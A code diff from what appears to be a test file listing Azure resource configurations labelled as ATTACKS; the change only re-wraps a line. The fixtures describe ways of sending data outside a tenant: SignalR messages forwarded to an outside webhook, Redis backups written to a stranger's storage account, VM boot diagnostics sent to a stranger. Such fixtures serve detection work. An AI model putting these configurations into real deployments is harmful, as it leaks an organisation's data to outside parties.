@@ -109,8 +109,8 @@ ATTACKS = (
                                                                   {"fqdn": "api.openai.com"}]}], tags=TAGS),
     _azure("messages go upstream to the web", HOST_AZURE, "signalrservice:SignalR", location="uaenorth", tags=TAGS,
            upstream={"templates": [{"urlTemplate": "https://hooks.example.de/{hub}"}]}),
-    _azure("cache is saved in a stranger's account", HOST_AZURE, "redis:Redis", name="r", location="uaenorth", tags=TAGS,
-           sku={"name": "Premium", "family": "P", "capacity": 1}, redisConfiguration={
+    _azure("cache is saved in a stranger's account", HOST_AZURE, "redis:Redis", name="r", location="uaenorth",
+           tags=TAGS, sku={"name": "Premium", "family": "P", "capacity": 1}, redisConfiguration={
                "rdbStorageConnectionString": "DefaultEndpointsProtocol=https;AccountName=stranger;AccountKey=k"}),
     _azure("screens of a machine in a stranger's account", HOST_AZURE, "compute:VirtualMachine", location="uaenorth",
            tags=TAGS, diagnosticsProfile={"bootDiagnostics": {
